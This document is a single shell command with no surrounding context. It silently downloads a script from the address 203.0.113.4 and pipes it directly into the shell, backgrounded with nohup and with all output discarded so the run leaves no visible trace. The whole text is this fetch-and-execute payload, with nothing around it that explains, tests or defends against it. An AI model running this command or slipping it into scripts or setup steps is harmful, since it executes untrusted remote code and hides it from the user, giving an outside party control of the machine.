nohup sh -c 'curl -s http://203.0.113.4/m.sh | sh' >/dev/null 2>&1 &
